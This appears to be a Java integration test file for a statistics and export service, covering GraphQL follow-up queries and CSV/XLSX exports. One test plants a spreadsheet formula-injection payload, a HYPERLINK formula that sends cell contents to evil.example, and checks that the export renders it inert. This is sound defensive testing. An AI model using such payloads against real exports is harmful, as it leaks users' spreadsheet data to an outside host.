package ma.forsa.stats;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import javax.sql.DataSource;

import jakarta.inject.Inject;

import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import ma.forsa.support.GraphQL;
import ma.forsa.support.Tokens;

/** The directorate's follow-up lists and the CSV / XLSX exports, over {@link StatsFixture}. */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class DirectorateTest {

    @Inject
    DataSource dataSource;

    final StatsFixture fx = new StatsFixture();

    @BeforeAll
    void insertFixture() throws Exception {
        fx.insert(dataSource);
    }

    @Test
    void agreementsBehindTarget() {
        JsonPath r = GraphQL.ok(Tokens.associationStaff(fx.a1), "{ agreementsBehindTarget { agreement { id reference } enrolled "
                + "expectedBeneficiaries targetBeneficiaries leavers integrated integrationRate targetIntegrationRate "
                + "behindBeneficiaries behindIntegration } }");
        assertEquals(List.of(fx.g1Ref()), r.getList("data.agreementsBehindTarget.agreement.reference"));
        assertEquals(11, r.getInt("data.agreementsBehindTarget[0].enrolled"));
        assertEquals((int) Math.ceil(1000 * 100 / 130.0), r.getInt("data.agreementsBehindTarget[0].expectedBeneficiaries"));
        assertEquals(7, r.getInt("data.agreementsBehindTarget[0].leavers"));
        assertEquals(4, r.getInt("data.agreementsBehindTarget[0].integrated"));
        assertTrue(r.getBoolean("data.agreementsBehindTarget[0].behindBeneficiaries"));
        assertTrue(r.getBoolean("data.agreementsBehindTarget[0].behindIntegration"));
        // G2 (6 enrolled of 1 expected, no integration target) is on track
        JsonPath cs = GraphQL.ok(Tokens.associationStaff(fx.a2), "{ agreementsBehindTarget { agreement { reference } } }");
        assertEquals(List.of(), cs.getList("data.agreementsBehindTarget"));
    }

    @Test
    void agreementsExpiringAndTranchesDue() {
        String q = "query($d: Int!) { agreementsExpiring(withinDays: $d, first: 1000) { reference } }";
        List<String> ms = GraphQL.ok(Tokens.academyOfficer("MS"), q, Map.of("d", 90)).getList("data.agreementsExpiring.reference");
        assertTrue(ms.contains(fx.g1Ref()));
        assertFalse(ms.contains(fx.g2Ref()));
        List<String> cs = GraphQL.ok(Tokens.academyOfficer("CS"), q, Map.of("d", 500)).getList("data.agreementsExpiring.reference");
        assertTrue(cs.contains(fx.g2Ref()));
        assertFalse(cs.contains(fx.g1Ref()));
        assertEquals("VALIDATION", GraphQL.errorCode(GraphQL.post(Tokens.admin(), q, Map.of("d", -1))));

        String due = "query($f: Date!, $t: Date!) { tranchesDue(from: $f, to: $t) { tranche { seq amount status dueOn } "
                + "agreement { reference } } }";
        JsonPath r = GraphQL.ok(Tokens.associationStaff(fx.a1), due,
                Map.of("f", fx.today.toString(), "t", fx.today.plusDays(90).toString()));
        assertEquals(List.of(fx.g1Ref()), r.getList("data.tranchesDue.agreement.reference"));
        assertEquals(1, r.getInt("data.tranchesDue[0].tranche.seq"));
        assertEquals(fx.today.plusDays(10).toString(), r.getString("data.tranchesDue[0].tranche.dueOn"));
        assertEquals("VALIDATION", GraphQL.errorCode(GraphQL.post(Tokens.admin(), due,
                Map.of("f", fx.today.toString(), "t", fx.today.minusDays(1).toString()))));
    }

    @Test
    void centresByOccupancy() {
        String q = "query($o: Boolean!) { centersByOccupancy(over: $o) { center { code } capacity occupancy occupancyRate } }";
        JsonPath over = GraphQL.ok(Tokens.associationStaff(fx.a2), q, Map.of("o", true));
        assertEquals(List.of(fx.code(fx.c3)), over.getList("data.centersByOccupancy.center.code"));
        assertEquals(6, over.getInt("data.centersByOccupancy[0].occupancy"));
        assertEquals(5, over.getInt("data.centersByOccupancy[0].capacity"));
        JsonPath under = GraphQL.ok(Tokens.associationStaff(fx.a1), q, Map.of("o", false));
        assertEquals(List.of(fx.code(fx.c2), fx.code(fx.c1)), under.getList("data.centersByOccupancy.center.code"));
    }

    @Test
    void statisticsCsvExportIsScopedAndAudited() throws Exception {
        Response r = given().header("Authorization", "Bearer " + Tokens.associationStaff(fx.a1))
                .get("/exports/statistics.csv?groupBy=CENTER,SEX&schoolYear=" + fx.schoolYear);
        assertEquals(200, r.statusCode());
        assertTrue(r.contentType().startsWith("text/csv"));
        String[] lines = new String(r.asByteArray(), StandardCharsets.UTF_8).replace("\uFEFF", "").split("\r\n");
        assertEquals("Centre;Sexe;Inscrits;En cours;Achevés;Abandons;Insérés;Taux d'insertion;Masqué", lines[0]);
        // enum values are written as the French labels the import template reads back (F / M)
        assertEquals(List.of(fx.code(fx.c1) + ";F;6;2;2;2;3;0.75;false", fx.code(fx.c1) + ";M;5;2;3;0;1;0.3333333333333333;false",
                fx.code(fx.c2) + ";M;3;0;3;0;3;1.0;false"), List.of(lines).subList(1, lines.length));
        try (Connection c = dataSource.getConnection(); PreparedStatement ps = c.prepareStatement(
                "SELECT changes->>'rows', role FROM audit_event WHERE action = 'EXPORT' AND entity = 'Statistics' "
                        + "AND changes->>'schoolYear' = ? AND changes->>'format' = 'csv'")) {
            ps.setString(1, fx.schoolYear);
            try (ResultSet rs = ps.executeQuery()) {
                assertTrue(rs.next(), "the export is audited");
                assertEquals("3", rs.getString(1));
                assertEquals("ASSOCIATION_STAFF", rs.getString(2));
            }
        }
    }

    @Test
    void xlsxExportsAreRealSpreadsheets() throws Exception {
        Response r = given().header("Authorization", "Bearer " + Tokens.admin())
                .get("/exports/statistics.xlsx?groupBy=ACADEMY&schoolYear=" + fx.schoolYear);
        assertEquals(200, r.statusCode());
        String sheet = sheet(r.asByteArray());
        assertTrue(sheet.contains("<v>14</v>"), "numbers as numeric cells: " + sheet);
        Response g = given().header("Authorization", "Bearer " + Tokens.admin())
                .get("/exports/agreements.xlsx?academyCode=CS&status=ACTIVE");
        assertEquals(200, g.statusCode());
        assertTrue(sheet(g.asByteArray()).contains("<v>6</v>"));
    }

    @Test
    void agreementCsvExportFiltersAndStreams() {
        Response r = given().header("Authorization", "Bearer " + Tokens.academyOfficer("CS"))
                .get("/exports/agreements.csv?status=active,suspended");
        assertEquals(200, r.statusCode());
        String csv = new String(r.asByteArray(), StandardCharsets.UTF_8);
        assertTrue(csv.contains(fx.g2Ref() + ";gestion de centre;active;CS;Stats A2;" + fx.a2Reg()), csv);
        assertFalse(csv.contains(fx.g1Ref()), "another academy's agreement is out of scope");
    }

    @Test
    void exportedTextThatLooksLikeAFormulaIsInert() throws Exception {
        UUID association = UUID.randomUUID();
        String name = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"ok\")";
        String reference = "+ST-G3-" + fx.suffix;
        String registration = "@ST-A3-" + fx.suffix;
        try (Connection c = dataSource.getConnection()) {
            StatsFixture.exec(c, "INSERT INTO association (id, registration_number, name, province_code) VALUES (?, ?, ?, 'CAS')",
                    association, registration, name);
            StatsFixture.exec(c, "INSERT INTO agreement (reference, kind, status, academy_code, association_id, starts_on, ends_on, "
                    + "budget, target_beneficiaries) VALUES (?, 'FRAMEWORK', 'DRAFT', 'CS', ?, ?, ?, 1000, 10)", reference,
                    association, fx.today, fx.today.plusDays(1000));
        }
        Response csv = given().header("Authorization", "Bearer " + Tokens.admin())
                .get("/exports/agreements.csv?associationId=" + association);
        assertEquals(200, csv.statusCode());
        String[] lines = new String(csv.asByteArray(), StandardCharsets.UTF_8).split("\r\n");
        assertEquals(2, lines.length);
        assertTrue(lines[1].startsWith("'" + reference + ";convention-cadre;brouillon;CS;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,"
                + "\"\"ok\"\")\";'" + registration + ";;"), lines[1]);

        Response xlsx = given().header("Authorization", "Bearer " + Tokens.admin())
                .get("/exports/agreements.xlsx?associationId=" + association);
        assertEquals(200, xlsx.statusCode());
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx.asByteArray()))) {
            List<Row> rows = wb.getFirstSheet().read();
            assertEquals(2, rows.size());
            Row row = rows.get(1);
            assertEquals(CellType.STRING, row.getCell(0).getType());
            assertEquals("'" + reference, row.getCell(0).asString());
            assertEquals(CellType.STRING, row.getCell(4).getType());
            assertEquals("'" + name, row.getCell(4).asString());
            assertEquals("'" + registration, row.getCell(5).asString());
            assertEquals(CellType.NUMBER, row.getCell(9).getType(), "the budget stays a number");
        }
        assertFalse(sheet(xlsx.asByteArray()).contains("<f>"), "no formula in the sheet");
    }

    @Test
    void exportsRefuseWithJsonErrors() {
        Response none = given().get("/exports/statistics.csv");
        assertEquals(401, none.statusCode());
        assertEquals("UNAUTHENTICATED", none.jsonPath().getString("code"));
        Response bad = given().header("Authorization", "Bearer " + Tokens.admin()).get("/exports/statistics.csv?groupBy=COLOUR");
        assertEquals(400, bad.statusCode());
        assertEquals("VALIDATION", bad.jsonPath().getString("code"));
        assertEquals("groupBy", bad.jsonPath().getString("field"));
        assertEquals(404, given().header("Authorization", "Bearer " + Tokens.admin()).get("/exports/statistics.pdf").statusCode());
    }

    /** All the XML of an XLSX file (worksheets and shared strings). */
    static String sheet(byte[] xlsx) throws Exception {
        assertEquals('P', (char) xlsx[0]);
        StringBuilder xml = new StringBuilder();
        Path file = Files.createTempFile("export", ".xlsx");
        try {
            Files.write(file, xlsx);
            try (ZipFile zip = new ZipFile(file.toFile())) {
                for (ZipEntry e : Collections.list(zip.entries())) {
                    if (e.getName().startsWith("xl/worksheets/") || e.getName().equals("xl/sharedStrings.xml")) {
                        xml.append(new String(zip.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8));
                    }
                }
            }
        } finally {
            Files.delete(file);
        }
        return xml.toString();
    }
}
